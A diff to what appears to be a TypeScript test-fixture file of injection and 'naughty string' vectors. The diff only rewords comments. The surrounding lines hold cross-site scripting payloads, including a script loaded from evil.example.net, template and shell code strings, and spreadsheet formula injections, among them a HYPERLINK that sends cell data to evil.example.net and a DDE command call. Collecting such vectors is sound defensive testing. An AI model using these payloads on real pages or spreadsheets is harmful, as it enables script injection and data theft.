@@ -1,7 +1,7 @@
-/** A text that someone hopes a page will run, show as markup, or be broken by. */
+/** A text that tries to run in a page, to appear as markup or to break it. */
 export type Vector = readonly [name: string, text: string];
 
-/** Markup in texts that are no markup. */
+/** Markup in plain texts. */
 export const markup: readonly Vector[] = [
   ['script element', '<script>alert(1)</script>'],
   ['script in capitals', '<SCRIPT SRC=https://evil.example.net/x.js></SCRIPT>'],
@@ -72,10 +72,10 @@ export const markup: readonly Vector[] = [
   ['line separators', 'خبر\u2028<script>\u2029alert(1)</script>'],
 ];
 
-/** So that what opens a place in a template literal can be written in one. */
+/** A dollar sign, for writing `${` in a template literal. */
 const dollar = '$';
 
-/** Code of templates, of shells and of databases: nothing here evaluates any. */
+/** Code of template engines, shells and databases, none of which is evaluated. */
 export const templateCode: readonly Vector[] = [
   ['template literal', `${dollar}{process.exit(1)}`],
   ['template literal with grave accents', `\`${dollar}{globalThis.hacked = true}\``],
@@ -101,7 +101,7 @@ export const templateCode: readonly Vector[] = [
   ['front matter fence', '---\ntitle: آخر\n---'],
 ];
 
-/** Strings that break programs without meaning to. */
+/** Strings that break programs by accident. */
 export const naughty: readonly Vector[] = [
   ['undefined', 'undefined'],
   ['null', 'null'],
@@ -155,7 +155,7 @@ export const naughty: readonly Vector[] = [
   ['a Latin word without end', 'x'.repeat(300)],
 ];
 
-/** What spreadsheets take for a formula. */
+/** Cells that spreadsheets evaluate as formulas. */
 export const formulas: readonly Vector[] = [
   ['link', '=HYPERLINK("https://evil.example.net/?x="&A1,"انقر")'],
   ['command', "=cmd|' /C calc'!A0"],
